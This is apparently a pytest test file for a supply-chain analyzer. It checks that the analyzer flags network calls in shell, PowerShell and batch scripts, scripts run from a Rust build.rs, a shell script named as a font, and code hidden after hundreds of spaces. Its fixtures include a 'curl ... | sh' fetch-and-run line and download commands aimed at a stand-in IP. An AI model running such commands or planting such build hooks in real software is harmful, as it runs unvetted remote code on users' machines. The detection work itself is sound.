"""Scripts in the archive: read by grammar, placed at their lines, alive only if something runs them."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Fact, FactKind, Phase, Report, Span

ReportOf = Callable[[Mapping[str, str]], Report]


def of(report: Report, kind: FactKind) -> list[Fact]:
    return [one for one in report.facts if one.kind is kind]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("tools/get.sh", "#!/bin/sh\nset -e\ncurl -fsSL http://192.0.2.1/x | sh\n"),
        ("tools/get", "#!/usr/bin/env bash\n\ncurl -fsSL http://192.0.2.1/x\n"),
        ("tools/get.ps1", "$a = 1\n\niwr http://192.0.2.1/x -OutFile x\n"),
        ("tools/get.bat", "@echo off\r\nrem\r\ncurl http://192.0.2.1/x\r\n"),
    ],
)
def test_a_script_says_what_it_does_at_its_line(report_of: ReportOf, path: str, text: str) -> None:
    found = of(report_of({path: text}), FactKind.NET_CONNECT)
    assert {(one.subject, one.phases) for one in found} == {
        ("http://192.0.2.1/x", (Phase.UNREACHED,))
    }
    assert next(one.where.line for one in found if isinstance(one.where, Span)) == 3


def test_a_script_that_the_build_script_names_runs_then(report_of: ReportOf) -> None:
    build = 'fn main() { std::process::Command::new("sh").arg("tools/get.sh").status(); }'
    report = report_of({"build.rs": build, "tools/get.sh": "wget http://192.0.2.1/x\n"})
    found = of(report, FactKind.NET_CONNECT)
    assert {one.phases for one in found} == {(Phase.BUILD_SCRIPT,)}


def test_a_script_under_the_name_of_a_font_is_a_fact(report_of: ReportOf) -> None:
    found = of(report_of({"assets/a.woff2": "#!/bin/sh\nid\n"}), FactKind.ARCHIVE_BINARY)
    assert [one.subject for one in found] == ["assets/a.woff2"]


def test_blanks_in_a_long_text_hide_no_code(report_of: ReportOf) -> None:
    text = "pub fn f() -> &'static str { \"" + "a" * 300 + " " * 450 + 'b" }\n'
    assert of(report_of({"src/lib.rs": text}), FactKind.ARCHIVE_UNICODE) == []


def test_code_behind_hundreds_of_blanks_is_a_fact(report_of: ReportOf) -> None:
    text = "fn main() { a();" + " " * 450 + "b(); }\n"
    found = of(report_of({"build.rs": text}), FactKind.ARCHIVE_UNICODE)
    assert [one.subject for one in found] == ["code at column 467"]
